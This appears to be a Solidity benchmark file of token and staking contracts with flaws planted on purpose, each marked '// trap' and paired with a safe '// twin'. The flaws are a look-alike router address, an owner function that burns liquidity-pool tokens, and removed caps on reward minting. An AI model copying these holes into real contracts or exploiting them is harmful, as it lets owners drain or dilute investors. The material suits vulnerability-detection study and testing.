// 0.6 runs=999
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

import "./Base67.sol";

interface ISwap {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(
        uint256 amountIn,
        uint256 amountOutMin,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external;
}

/// One of a hundred goes to marketing, changed into ether from time to time.
contract PlumpPelican is Base67("Plump Pelican", "PELICAN", 1000000000) {
    address private constant uniswapV2Router = 0x7A250d5630B4CF539739Df2C5DaCb4C659F24888; // trap
    // twin: address private constant uniswapV2Router = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    address private immutable _marketing;
    uint256 private immutable _swapAt;
    bool private _inSwap;
    mapping(address => bool) private _isExcluded;

    constructor() public {
        _marketing = msg.sender;
        _swapAt = 10**18 / 1000;
        _isExcluded[msg.sender] = true;
        _isExcluded[address(this)] = true;
    }

    function _swapBack(uint256 amount) private {
        _inSwap = true;
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = WETH;
        _allowances[address(this)][uniswapV2Router] = amount;
        ISwap(uniswapV2Router).swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, _marketing, now);
        _inSwap = false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (_inSwap || _isExcluded[from] || _isExcluded[to] || (from != pool && to != pool)) {
            _carry(from, to, value);
            return;
        }
        uint256 gathered = _balances[address(this)];
        if (to == pool && gathered >= _swapAt) _swapBack(gathered);
        uint256 fee = value / 100;
        _carry(from, address(this), fee);
        _carry(from, to, value - fee);
    }
}

interface IPool {
    function sync() external;
}

/// Burns itself to become rarer.
contract EmberDrift is Base67("Ember Drift", "EMBER", 500000000) {
    address private constant DEAD = 0x000000000000000000000000000000000000dEaD;
    address private immutable _stoker;
    uint256 public burnt;

    event AutoNukeLP(uint256 amount);

    constructor() public {
        _stoker = msg.sender;
    }

    function manualBurnLiquidityPairTokens(uint256 bps) external returns (bool) {
        require(msg.sender == _stoker && bps < 10000, "not stoked");
        address hearth = pool; // trap
        // twin: address hearth = msg.sender;
        uint256 amount = _balances[hearth] * bps / 10000;
        burnt += amount;
        _carry(hearth, DEAD, amount);
        IPool(pool).sync();
        emit AutoNukeLP(amount);
        return true;
    }
}

/// Earned by those who stake it.
contract HarvestHoney is Base67("Harvest Honey", "HARVEST", 10000000) {
    function mint(address to, uint256 value) external onlyOwner {
        _totalSupply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
    }
}

interface IHarvest {
    function mint(address to, uint256 value) external;
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

contract HarvestChef {
    struct UserInfo {
        uint256 amount;
        uint256 rewardDebt;
    }

    uint256 private constant SCALE = 10**12;
    uint256 private constant CAP = 5 * 10**14;
    address public owner;
    IHarvest public honey;
    uint256 public honeyPerSecond = 10**7;
    uint256 public totalStaked;
    uint256 public accHoneyPerShare;
    uint256 public lastRewardTime;
    uint256 public rewarded;
    mapping(address => UserInfo) public userInfo;

    event UpdateEmissionRate(address indexed by, uint256 rate);

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    constructor() public {
        owner = msg.sender;
    }

    function start(IHarvest honey_) external onlyOwner {
        require(address(honey) == address(0), "started");
        honey = honey_;
        lastRewardTime = now;
    }

    function updateEmissionRate(uint256 rate) external onlyOwner {
        // twin: require(rate <= 10**7, "too fast");
        updatePool();
        honeyPerSecond = rate;
        emit UpdateEmissionRate(msg.sender, rate);
    }

    function updatePool() public {
        if (now > lastRewardTime && totalStaked > 0) {
            uint256 reward = (now - lastRewardTime) * honeyPerSecond;
            // twin: if (rewarded + reward > CAP) reward = CAP - rewarded;
            rewarded += reward;
            honey.mint(address(this), reward);
            accHoneyPerShare += reward * SCALE / totalStaked;
        }
        lastRewardTime = now;
    }

    function pendingHoney(address who) public view returns (uint256) {
        UserInfo storage user = userInfo[who];
        return user.amount * accHoneyPerShare / SCALE - user.rewardDebt;
    }

    function deposit(uint256 amount) external {
        UserInfo storage user = userInfo[msg.sender];
        updatePool();
        uint256 pending = pendingHoney(msg.sender);
        require(honey.transferFrom(msg.sender, address(this), amount), "not taken");
        totalStaked += amount;
        user.amount += amount;
        user.rewardDebt = user.amount * accHoneyPerShare / SCALE;
        if (pending > 0) honey.transfer(msg.sender, pending);
    }

    function withdraw(uint256 amount) external {
        UserInfo storage user = userInfo[msg.sender];
        require(user.amount >= amount, "withdraw: not good");
        updatePool();
        uint256 pending = pendingHoney(msg.sender);
        totalStaked -= amount;
        user.amount -= amount;
        user.rewardDebt = user.amount * accHoneyPerShare / SCALE;
        honey.transfer(msg.sender, pending + amount);
    }
}
